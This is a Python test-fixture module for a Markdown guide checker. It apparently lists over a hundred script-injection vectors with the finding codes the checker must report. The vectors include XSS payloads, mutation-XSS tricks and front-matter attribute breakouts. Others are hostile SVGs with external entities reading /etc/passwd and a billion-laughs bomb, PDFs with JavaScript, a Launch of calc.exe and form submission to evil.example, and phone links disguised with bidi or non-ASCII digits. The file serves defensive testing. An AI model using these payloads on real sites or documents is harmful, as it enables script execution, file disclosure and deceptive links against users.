"""A corpus of known script-injection vectors, as an editor might paste them into a guide.

Each vector has a short name, the Markdown (or front matter, or an uploaded file), and the
finding codes `guides check` must report for it, as errors. Every payload tries to set
`window.__pwned` (or open a dialog), so a browser test can tell whether any of them ran.

Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, known
mutation-XSS (mXSS) and parser-differential tricks, and Markdown-specific ones (links,
reference definitions, autolinks, attribute lists, code spans and fences that are not).
"""

from __future__ import annotations

import json
import zlib
from dataclasses import dataclass, field

P = "__pwned=1"  # the payload: sets window.__pwned
# <script>alert(1)</script>, base64: a data: document opens a dialog if it is ever loaded
B64_HTML = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

FORBIDDEN = "html.forbidden-tag"
EVENT = "html.event-attr"
URL = "html.unsafe-url"
REMOTE = "html.remote-resource"
SVG = "svg.unsafe"
FM = "fm.html"
ACTIVE = "file.active"
TEL_MISMATCH = "phone.mismatch"
TEL_HIDDEN = "phone.invisible"
TEL_DIGIT = "phone.digit"


@dataclass(frozen=True)
class Vector:
    name: str
    markdown: str  # pasted into the body (may be several lines)
    codes: frozenset[str]
    line: int = 0  # the line of the finding, counted from the vector's (or file's) first line
    files: dict[str, str | bytes] = field(default_factory=dict)  # other files in its folder
    file: str = ""  # the finding is in this file of the guide's folder, not in zh.md
    meta: dict[str, str] = field(default_factory=dict)  # front-matter values to set


def v(name: str, markdown: str, *codes: str, **more: object) -> Vector:
    return Vector(name, markdown, frozenset(codes), **more)  # type: ignore[arg-type]


SVG_SCRIPT = ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
              f"<script>{P}</script></svg>")

VECTORS: list[Vector] = [
    # -- raw HTML: script and embedding elements -------------------------------------------
    v("script", f"<script>{P}</script>", FORBIDDEN),
    v("script-upper", f"<SCRIPT>{P}</SCRIPT>", FORBIDDEN),
    v("script-src-remote", '<script src="https://evil.example/x.js"></script>', FORBIDDEN, REMOTE),
    v("script-split", f"<scr<script>ipt>{P}</script>", FORBIDDEN),
    v("iframe-srcdoc", f'<iframe srcdoc="<script>parent.{P}</script>"></iframe>', FORBIDDEN),
    v("iframe-javascript", f'<iframe src="javascript:parent.{P}"></iframe>', FORBIDDEN, URL),
    v("object-javascript", f'<object data="javascript:{P}"></object>', FORBIDDEN, URL),
    v("embed-data", f'<embed src="data:text/html;base64,{B64_HTML}">', FORBIDDEN, URL),
    v("form-action", f'<form action="javascript:{P}"><button>提交</button></form>',
      FORBIDDEN, URL),
    v("button-formaction", f'<button formaction="javascript:{P}">点我</button>', URL),
    v("input-formaction", f'<input type="submit" formaction="javascript:{P}">', URL),
    v("meta-refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{P}">', FORBIDDEN),
    v("base-href", f'<base href="javascript:{P}//">', FORBIDDEN, URL),
    v("link-import", '<link rel="import" href="https://evil.example/x.html">', FORBIDDEN),
    v("style-import", '<style>@import "https://evil.example/x.css";</style>', FORBIDDEN),
    v("template", f"<template><img src=x onerror=\"{P}\"></template>", FORBIDDEN, EVENT),
    # -- event-handler attributes --------------------------------------------------------
    v("img-onerror", f"<img src=x onerror=\"{P}\">", EVENT),
    v("img-onerror-entities", '<img src="x" alt="x" onerror="&#95;&#95;pwned&#61;1">', EVENT),
    v("img-slashes", f'<img/src="x"/alt="x"/onerror="{P}">', EVENT),
    v("img-unclosed", "<img src=x onerror=alert(1)//", EVENT),
    v("img-unclosed-mid", f"<img src=x alt=x onerror=\"{P}\"//\n\n后面还有一段文字。", EVENT),
    v("svg-onload", f"<svg onload=\"{P}\">", FORBIDDEN, EVENT),
    v("svg-slash-onload", f"<svg/onload=\"{P}\">", FORBIDDEN, EVENT),
    v("svg-script", f"<svg><script>{P}</script></svg>", FORBIDDEN),
    v("svg-animate", f"<svg><animate onbegin=\"{P}\" attributeName=x dur=1s></svg>",
      FORBIDDEN, EVENT),
    v("svg-xlink", f'<svg><a xlink:href="javascript:{P}"><text y="20">点</text></a></svg>',
      FORBIDDEN, URL),
    v("details-ontoggle", f"<details open ontoggle=\"{P}\"><summary>x</summary></details>", EVENT),
    v("input-autofocus", f"<input autofocus onfocus=\"{P}\">", EVENT),
    v("video-source", f'<video><source onerror="{P}"></video>', EVENT),
    v("body-onload", f"<body onload=\"{P}\">", EVENT),
    v("custom-element", f"<x-tip onclick=\"{P}\">点我</x-tip>", EVENT),
    v("a-onmouseover", f'<a href="#" onmouseover="{P}">指我</a>', EVENT),
    v("marquee-onstart", f"<marquee onstart=\"{P}\">x</marquee>", EVENT),
    v("event-newline", f"<img src=x alt=x onerror\n=\"{P}\">", EVENT),
    # -- URLs in raw HTML, with entity and white-space tricks ----------------------------
    v("a-javascript", f'<a href="javascript:{P}">点我</a>', URL),
    v("a-javascript-unquoted", "<a href=javascript:alert(1)>点我</a>", URL),
    v("a-decimal-entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;'
      f'&#116;&#58;{P}">点我</a>', URL),
    v("a-padded-decimal", f'<a href="&#0000106&#0000097vascript:{P}">点我</a>', URL),
    v("a-hex-no-semicolon", f'<a href="&#x6A&#x61vascript:{P}">点我</a>', URL),
    v("a-named-entities", f'<a href="java&Tab;script&colon;{P}">点我</a>', URL),
    v("a-newline-entity", f'<a href="java&#10;script:{P}">点我</a>', URL),
    v("a-leading-space", f'<a href="  javascript:{P}">点我</a>', URL),
    v("a-data-html", f'<a href="data:text/html;base64,{B64_HTML}">点我</a>', URL),
    v("a-vbscript", '<a href="vbscript:msgbox(1)">点我</a>', URL),
    v("img-srcset", f'<img srcset="javascript:{P} 1x" alt="x">', URL),
    v("math-href", f'<math href="javascript:{P}">点我</math>', FORBIDDEN, URL),
    v("style-url-javascript", f'<p style="background:url(javascript:{P})">x</p>', URL),
    v("style-expression", f'<p style="width: expression({P})">x</p>', EVENT),
    # -- parser differentials and mutation XSS -------------------------------------------
    v("mxss-math-style", f"<math><mtext><table><mglyph><style><img src=x onerror=\"{P}\">",
      FORBIDDEN),
    v("noscript-title", f'<noscript><p title="</noscript><img src=x onerror="{P}">">',
      FORBIDDEN),
    v("xmp-title", f'<xmp><p title="</xmp><img src=x onerror="{P}">">', FORBIDDEN),
    v("textarea-title", f'<textarea><p title="</textarea><img src=x onerror="{P}">">',
      FORBIDDEN),
    v("comment-abrupt", f"<!--><img src=x onerror=\"{P}\">-->", EVENT),
    v("comment-abrupt-dash", f"<!---><img src=x onerror=\"{P}\">-->", EVENT),
    v("comment-bang-close", f"<!-- x --!><img src=x onerror=\"{P}\">-->", EVENT),
    v("comment-bang-inline", f'文字 <!-- x --!> <img src=x onerror="{P}"> -->', EVENT),
    v("comment-unclosed", f'<!-- 注释没有结束\n\n<img src=x onerror="{P}">', EVENT, line=2),
    v("comment-in-attr", f'<!--<img src="--><img src=x onerror="{P}"//">', EVENT),
    v("escaped-backtick", f"\\`<img src=x onerror=\"{P}\">\\`", EVENT),
    v("unclosed-fence", f"```\n<img src=x onerror=\"{P}\">", EVENT, line=1),
    # -- Markdown links and images -------------------------------------------------------
    v("md-link", f"[点我](javascript:{P})", URL),
    v("md-link-mixed-case", f"[点我](JaVaScRiPt:{P})", URL),
    v("md-link-entity", f"[点我](jav&#x61;script:{P})", URL),
    v("md-link-colon-entity", f"[点我](javascript&#58;{P})", URL),
    v("md-link-tab", f"[点我](java\tscript:{P})", URL),
    v("md-link-angle", f"[点我](<javascript:{P}>)", URL),
    v("md-link-title", f'[点我](javascript:{P} "标题")', URL),
    v("md-link-parens", "[点我](javascript:void(window.__pwned=1))", URL),
    v("md-link-data", f"[点我](data:text/html;base64,{B64_HTML})", URL),
    v("md-link-vbscript", "[点我](vbscript:msgbox(1))", URL),
    v("md-image-javascript", f"![图](javascript:{P})", URL),
    v("md-image-data-svg", "![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", URL),
    v("md-reference", f"[点我][1]\n\n[1]: javascript:{P}", URL, line=2),
    v("md-reference-angle", f'[点我][x]\n\n[x]: <javascript:{P}> "标题"', URL, line=2),
    v("md-autolink", f"<javascript:{P}>", URL),
    v("md-link-text-html", f"[<img src=x onerror=\"{P}\">](../)", EVENT),
    # -- attribute lists -----------------------------------------------------------------
    v("attr-paragraph", f'这一段 {{: onclick="{P}" }}', EVENT),
    v("attr-paragraph-below", f'这一段\n{{: onclick="{P}" }}', EVENT, line=1),
    v("attr-link", f'[点我](../){{: onclick="{P}" }}', EVENT),
    v("attr-heading", f'## 小标题 {{: onmouseover="{P}" }}', EVENT),
    v("attr-upper", f"这一段 {{: OnClick=\"{P}\" }}", EVENT),
    v("attr-href", f'[点我](#x){{: href="javascript:{P}" }}', URL),
    v("attr-image", f'![图](x.png){{: onerror="{P}" }}', EVENT),
    v("attr-style", f'这一段 {{: style="background:url(javascript:{P})" }}', URL),
    # -- Markdown blocks that carry HTML -------------------------------------------------
    v("heading-html", f"## 小标题 <img src=x onerror=\"{P}\">", EVENT),
    v("admonition-title", f'!!! note "<img src=x onerror="{P}">"\n    内容', EVENT),
    v("details-title", f'??? note "<img src=x onerror="{P}">"\n    内容', EVENT),
    v("task-item", f"- [ ] <img src=x onerror=\"{P}\"> 洗手", EVENT),
    v("table-cell", f"| 甲 | 乙 |\n| --- | --- |\n| <img src=x onerror=\"{P}\"> | 1 |", EVENT,
      line=2),
    # -- front matter: shown on the page and in <head>, outside the Markdown --------------
    v("fm-title", "正文。", FM, meta={"title": f"'<img src=x onerror=\"{P}\">'"}),
    v("fm-summary-breakout", "正文。", FM,
      meta={"summary": f"'\"><script>{P}</script>'"}),
    # -- uploaded files: pages and scripts, SVG images ----------------------------------
    v("uploaded-html", "[说明](page.html)", ACTIVE, file="page.html",
      files={"page.html": f"<script>{P}</script>"}),
    v("uploaded-js", "正文。", ACTIVE, file="x.js", files={"x.js": P}),
    v("svg-file-script", "![图](pic.svg)", SVG, files={"pic.svg": SVG_SCRIPT}, file="pic.svg"),
    v("svg-file-onload", "![图](pic.svg)", SVG, file="pic.svg",
      files={"pic.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{P}"/>'}),
    v("svg-file-entity-href", "![图](pic.svg)", SVG, file="pic.svg",
      files={"pic.svg": '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript&#58;'
                        f'{P}"><text y="9">x</text></a></svg>'}),
    # -- numbers that lie (h-mistakes, issue 16 item 6): a phone link must dial the number it
    # shows, in ASCII digits, with no bidi or zero-width characters to reorder or hide them
    v("tel-shows-another-number", "[12345](tel:110)", TEL_MISMATCH),
    v("tel-shows-another-landline", "[0512-65251234](tel:0512-65251235)", TEL_MISMATCH),
    v("tel-words-and-another-number", "[急救 120](tel:110)", TEL_MISMATCH),
    v("tel-percent-encoded", "[12345](tel:%31%31%30)", TEL_MISMATCH),
    v("tel-entity-encoded", "[12345](tel:&#49;&#49;&#48;)", TEL_MISMATCH),
    v("tel-html-anchor", '<a href="tel:110">12345</a>', TEL_MISMATCH),
    v("tel-rlo-in-text", "[\u202e54321](tel:12345)", TEL_HIDDEN),
    v("tel-rlo-in-url", "[12345](tel:\u202e54321)", TEL_HIDDEN),
    v("tel-rli-in-text", "[\u2067120\u2069](tel:120)", TEL_HIDDEN),
    v("tel-lrm-in-url", "[120](tel:12\u200e0)", TEL_HIDDEN),
    v("tel-rlm-in-text", "[12\u200f345](tel:12345)", TEL_HIDDEN),
    v("tel-zero-width-space", "[12345](tel:123\u200b45)", TEL_HIDDEN),
    v("tel-fullwidth-digits-shown", "[１２３４５](tel:12345)", TEL_DIGIT),
    v("tel-fullwidth-digits-dialled", "[12345](tel:１２３４５)", TEL_DIGIT),
    v("tel-arabic-indic-digits", "[١٢٣٤٥](tel:١٢٣٤٥)", TEL_DIGIT),
    v("tel-devanagari-digits", "[12345](tel:१२३४५)", TEL_DIGIT),
    v("tel-mathematical-digits", "[𝟏𝟐𝟑𝟒𝟓](tel:12345)", TEL_DIGIT),
    v("text-number-rlo", "请拨打 \u202e54321 咨询。", TEL_HIDDEN),
    v("text-number-fullwidth", "请拨打 １２３４５ 咨询。", TEL_DIGIT),
]


# -- h-svg: uploaded SVG images and PDFs, read with a real parser ------------------------------
# Every SVG here runs script or fetches from another host when opened on its own in a
# browser that follows it (or would, in some browser); each is refused, by the check and by
# the build. The PDFs carry JavaScript, launch, attachment or form actions, some with names
# hex-escaped (`/J#61vaScript`) or inside compressed object streams.

SVG_INVALID = "svg.invalid"
PDF_ACTIVE = "pdf.active"
PDF_INVALID = "pdf.invalid"
NS = 'xmlns="http://www.w3.org/2000/svg"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
XHTML = "http://www.w3.org/1999/xhtml"
# an SVG document that sets the flag, as a data: URL
B64_SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iX19wd25lZD0xIi8+"


def pdf(*objects: str, packed: tuple[str, ...] = ()) -> bytes:
    """A small PDF: `objects` are numbered from 1 (1 is the catalogue), written as they
    are; `packed` objects follow them inside one Flate-compressed object stream, found
    through a cross-reference stream as PDF 1.5 writers do."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    entries = [(0, 0, 65535)]
    for number, body in enumerate(objects, 1):
        entries.append((1, len(out), 0))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    first = len(objects) + 1
    if packed:
        numbers = range(first, first + len(packed))
        bodies = [body.encode("latin-1") + b"\n" for body in packed]
        offsets, position = [], 0
        for body in bodies:
            offsets.append(position)
            position += len(body)
        head = " ".join(f"{n} {o}" for n, o in zip(numbers, offsets, strict=True)).encode() + b"\n"
        data = zlib.compress(head + b"".join(bodies))
        stream_number = first + len(packed)
        for index in range(len(packed)):
            entries.append((2, stream_number, index))
        entries.append((1, len(out), 0))
        out += (f"{stream_number} 0 obj\n<< /Type /ObjStm /N {len(packed)} /First {len(head)} "
                f"/Filter /FlateDecode /Length {len(data)} >>\nstream\n").encode()
        out += data + b"\nendstream\nendobj\n"
    xref_number = len(entries)
    entries.append((1, len(out), 0))
    table = b"".join(bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big")
                     for kind, a, b in entries)
    start = len(out)
    out += (f"{xref_number} 0 obj\n<< /Type /XRef /Size {len(entries)} /W [1 4 2] "
            f"/Root 1 0 R /Length {len(table)} >>\nstream\n").encode()
    out += table + f"\nendstream\nendobj\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
PLAIN_PDF = pdf("<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE)


def svg_vector(name: str, svg: str | bytes, code: str = SVG, line: int = 0) -> Vector:
    return v(name, "![图](pic.svg)", code, files={"pic.svg": svg}, file="pic.svg", line=line)


def pdf_vector(name: str, data: bytes, code: str = PDF_ACTIVE) -> Vector:
    return v(name, "[下载打印版](sheet.pdf)", code, files={"sheet.pdf": data}, file="sheet.pdf")


FILE_VECTORS: list[Vector] = [
    svg_vector("svg-html-script", f'<svg {NS} xmlns:h="{XHTML}"><h:script>{P}</h:script></svg>'),
    svg_vector("svg-prefixed-script", '<s:svg xmlns:s="http://www.w3.org/2000/svg">'
               f"<s:script>{P}</s:script></s:svg>"),
    svg_vector("svg-default-ns-script", f'<svg {NS}><g><script xmlns="{XHTML}">{P}</script></g>'
               "</svg>"),
    svg_vector("svg-foreignobject", f'<svg {NS}><foreignObject width="9" height="9"><img '
               f'xmlns="{XHTML}" src="x" onerror="{P}"/></foreignObject></svg>'),
    svg_vector("svg-entity-scheme", f'<!DOCTYPE svg [<!ENTITY j "javascript">]><svg {NS}>'
               f'<a href="&j;:{P}"><text y="9">x</text></a></svg>'),
    svg_vector("svg-charref-scheme", f'<svg {NS}><a href="&#x6A;ava&#x09;script:{P}"><text '
               'y="9">x</text></a></svg>'),
    svg_vector("svg-xlink-javascript", f'<svg {NS} {XLINK}><a xlink:href="javascript:{P}">'
               '<rect width="9" height="9"/></a></svg>'),
    svg_vector("svg-set-href", f'<svg {NS}><a><set attributeName="href" to="javascript:{P}"/>'
               '<text y="9">x</text></a></svg>'),
    svg_vector("svg-animate-xlink-href", f'<svg {NS} {XLINK}><a xlink:href="#a"><animate '
               f'attributeName="xlink:href" values="javascript:{P}"/><text y="9">x</text></a></svg>'),
    svg_vector("svg-animate-fill-remote", f'<svg {NS}><rect width="9" height="9"><animate '
               'attributeName="fill" to="url(https://evil.example/p.svg#g)" dur="1s"/></rect></svg>'),
    svg_vector("svg-use-data", f'<svg {NS}><use href="data:image/svg+xml;base64,{B64_SVG}#x"/>'
               "</svg>"),
    svg_vector("svg-use-remote", f'<svg {NS} {XLINK}><use xlink:href="https://evil.example/s.svg#i"'
               "/></svg>"),
    svg_vector("svg-image-remote", f'<svg {NS}><image href="//evil.example/t.png" width="1" '
               'height="1"/></svg>'),
    svg_vector("svg-feimage-sibling-svg", f'<svg {NS}><filter id="f"><feImage href="other.svg"/>'
               "</filter></svg>"),
    svg_vector("svg-style-import", f'<svg {NS}><style>@import url(https://evil.example/x.css);'
               "</style></svg>"),
    svg_vector("svg-style-import-escaped", f'<svg {NS}><style>@\\69 mport "//evil.example/x.css";'
               "</style></svg>"),
    svg_vector("svg-style-cdata-url", f'<svg {NS}><style><![CDATA[rect {{ fill: u\\72l( '
               '"https://evil.example/p.svg#g") }]]></style><rect width="9" height="9"/></svg>'),
    svg_vector("svg-style-attr-url", f'<svg {NS}><rect width="9" height="9" style="fill:url('
               "'//evil.example/p.svg#g')\"/></svg>"),
    svg_vector("svg-style-split-by-element", f'<svg {NS}><style>@imp<g/>ort url(//evil.example/'
               "x.css);</style></svg>"),
    svg_vector("svg-xlink-other-prefix", f'<svg {NS} xmlns:l="http://www.w3.org/1999/xlink"><a '
               f'l:href="javascript:{P}"><text y="9">x</text></a></svg>'),
    svg_vector("svg-cursor-url", f'<svg {NS}><g cursor="url(https://evil.example/c.cur), auto">'
               "</g></svg>"),
    svg_vector("svg-css-expression", f'<svg {NS}><rect style="width: expression({P})"/></svg>'),
    svg_vector("svg-css-font-face", f'<svg {NS}><style>@font-face {{ font-family: x; src: '
               "local(x) }</style></svg>"),
    svg_vector("svg-event-odd-case", f'<svg {NS}><rect width="9" height="9" OnMouseOver="{P}"/>'
               "</svg>"),
    svg_vector("svg-event-namespaced", f'<svg {NS} xmlns:e="urn:x"><rect e:onclick="{P}"/></svg>'),
    svg_vector("svg-script-cdata", f'<svg {NS}><script><![CDATA[{P}]]></script></svg>'),
    svg_vector("svg-handler", f'<svg {NS}><handler type="application/ecmascript">{P}</handler>'
               "</svg>"),
    svg_vector("svg-xml-stylesheet", '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" '
               f'href="evil.xsl"?><svg {NS}/>'),
    svg_vector("svg-xinclude", f'<svg {NS} xmlns:xi="http://www.w3.org/2001/XInclude">'
               '<xi:include href="/etc/passwd" parse="text"/></svg>'),
    svg_vector("svg-external-entity", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
               f"<svg {NS}><text>&x;</text></svg>"),
    svg_vector("svg-billion-laughs", '<!DOCTYPE svg [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
               + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'
                         for i in range(8))
               + f"]><svg {NS}><text>&i;</text></svg>"),
    svg_vector("svg-attlist-default", f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{P}">]>'
               f"<svg {NS}/>"),
    svg_vector("svg-xml-base", f'<svg {NS}><a xml:base="javascript:{P}//" href="#x"><text '
               'y="9">x</text></a></svg>'),
    svg_vector("svg-iframe-in-metadata", f'<svg {NS}><metadata><iframe xmlns="{XHTML}" '
               f'src="javascript:parent.{P}"/></metadata></svg>'),
    svg_vector("svg-script-line-3", f'<svg {NS}>\n  <title>图</title>\n  <script>{P}</script>\n'
               "</svg>\n", line=2),
    svg_vector("svg-no-namespace", f"<svg><script>{P}</script></svg>", SVG_INVALID),
    svg_vector("svg-utf16", f'<svg {NS}><script>{P}</script></svg>'.encode("utf-16"),
               SVG_INVALID),
    svg_vector("svg-undeclared-entity", f'<svg {NS}><text>&nbsp;</text></svg>', SVG_INVALID),
    pdf_vector("pdf-openaction-js", pdf(
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE,
        "<< /S /JavaScript /JS (app.alert(1)) >>")),
    pdf_vector("pdf-hex-escaped-names", pdf(
        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) "
        ">> >>", PAGES, PAGE)),
    pdf_vector("pdf-js-in-object-stream", pdf(
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE,
        packed=("<< /S /JavaScript /JS (app.alert(1)) >>",))),
    pdf_vector("pdf-hex-in-object-stream", pdf(
        "<< /Type /Catalog /Pages 2 0 R /Names 4 0 R >>", PAGES, PAGE,
        packed=("<< /#4Aava#53cript << /Names [(a) 5 0 R] >> >>",
                "<< /S /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (app.alert(1)) >>"))),
    pdf_vector("pdf-page-aa-js", pdf(
        "<< /Type /Catalog /Pages 2 0 R >>", PAGES,
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /JavaScript "
        "/JS (app.alert(1)) >> >> >>")),
    pdf_vector("pdf-launch", pdf(
        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (calc.exe) >> >>",
        PAGES, PAGE)),
    pdf_vector("pdf-embedded-file", pdf(
        "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] "
        ">> >> >>", PAGES, PAGE, "<< /Type /Filespec /F (a.exe) >>")),
    pdf_vector("pdf-xfa", pdf(
        "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>", PAGES, PAGE,
        "<< /Length 0 >>\nstream\n\nendstream")),
    pdf_vector("pdf-submit-form", pdf(
        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F (https://evil.example/)"
        " >> >>", PAGES, PAGE)),
    pdf_vector("pdf-orphan-object", pdf(
        "<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE)
        .replace(b"startxref", b"9 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n"
                 b"startxref")),
    pdf_vector("pdf-html-renamed", f"<html><script>{P}</script></html>".encode(), PDF_INVALID),
]
VECTORS.extend(FILE_VECTORS)

# -- h-input (issue 16 item 2): front matter that leaves its attribute or element ----------
# Every value is escaped by the template engine wherever it is printed (test_escaping.py
# reads each one back as text); fm.html only tells the editor. Values are YAML
# double-quoted (JSON) strings, so quotes, tabs and newlines reach the value as written.


def q(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


FRONT_MATTER_VECTORS: list[Vector] = [
    v("fm-summary-http-equiv", "正文。", FM, meta={"summary": q(
        '须知" http-equiv="refresh" content="0;url=https://evil.example/')}),
    v("fm-title-og-property", "正文。", FM, meta={"title": q(
        '标题" property="og:image" content="https://evil.example/x.png')}),
    v("fm-title-single-quote", "正文。", FM,
      meta={"title": q(f"标题' autofocus onfocus='{P}")}),
    v("fm-title-backtick", "正文。", FM, meta={"title": q(f"标题` onmouseover=`{P}")}),
    v("fm-title-close-title", "正文。", FM,
      meta={"title": q(f"</title><script>{P}</script>")}),
    v("fm-summary-close-script", "正文。", FM,
      meta={"summary": q(f"</script><script>{P}</script>")}),
    v("fm-summary-newline", "正文。", FM, meta={"summary": q(
        '说明"\nhttp-equiv="refresh"\ncontent="0;url=//evil.example/')}),
    v("fm-summary-tab", "正文。", FM,
      meta={"summary": q(f'说明"\tonfocus="{P}"\tautofocus="')}),
    v("fm-title-slash", "正文。", FM, meta={"title": q(f'标题"/onmouseover="{P}')}),
    v("fm-summary-single-gt", "正文。", FM,
      meta={"summary": q(f"说明'><img src=x onerror={P}>")}),
    v("fm-title-entities", "正文。", FM,
      meta={"title": q(f"&lt;img src=x onerror={P}&gt;")}),
    v("fm-title-quot-entities", "正文。", FM,
      meta={"title": q(f"标题&quot; onmouseover=&quot;{P}")}),
    v("fm-title-svg-onload", "正文。", FM, meta={"title": q(f"<svg/onload={P}>")}),
    v("fm-title-comment", "正文。", FM, meta={"title": q(f"<!--x--><img src=x onerror={P}>")}),
    v("fm-title-noscript", "正文。", FM, meta={"title": q(
        f'<noscript><p title="</noscript><img src=x onerror={P}>">')}),
    v("fm-summary-meta-tag", "正文。", FM, meta={"summary": q(
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">')}),
    v("fm-title-style-import", "正文。", FM,
      meta={"title": q('"><style>@import "//evil.example/x.css";</style>')}),
    v("fm-owner-attr", "正文。", FM, meta={"owner": q(f'社工站" onclick="{P}')}),
    v("fm-reason-breakout", "正文。", FM, meta={
        "withdrawn_reason": q(f'已撤下"><img src=x onerror={P}>'), "status": "withdrawn"}),
    v("fm-reason-script", "正文。", FM, meta={
        "withdrawn_reason": q(f"</p><script>{P}</script>"), "status": "withdrawn"}),
    v("fm-history-note", "正文。", FM, meta={"history": "[{version: 1, date: 2026-11-01, "
                                             f"note: {q(f'<img src=x onerror={P}>')}}}]"}),
]
VECTORS += FRONT_MATTER_VECTORS
